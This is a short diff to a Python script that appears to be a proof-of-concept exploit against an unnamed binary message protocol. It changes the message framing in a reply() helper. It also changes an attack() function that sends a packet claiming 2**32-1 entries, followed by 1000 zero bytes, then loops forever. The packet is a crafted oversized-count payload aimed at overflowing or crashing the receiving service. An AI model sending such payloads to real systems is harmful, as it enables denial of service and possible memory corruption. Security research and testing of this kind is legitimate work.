@@ -20,13 +20,11 @@ def send(number, payload):
 
 def reply(kind, text, count=1, taken=1):
     data = text if isinstance(text, bytes) else text.encode()
-    value = b"[" + data + b"]" if kind == b"j" else b""
-    data = b"" if value else data
     lengths = struct.pack("<I", len(data.decode("utf-8", "surrogatepass"))) + bytes(4 * (count - 1))
-    return struct.pack("<II", count, len(value)) + kind * count + lengths + struct.pack("<Q", taken) * count + value + data
+    return struct.pack("<I", count) + kind * count + lengths + struct.pack("<Q", taken) * count + data
 
 
 def attack():
-    send(exchange(), struct.pack("<II", 2**32 - 1, 0) + bytes(1000))
+    send(exchange(), struct.pack("<I", 2**32 - 1) + bytes(1000))
     while True:
         pass
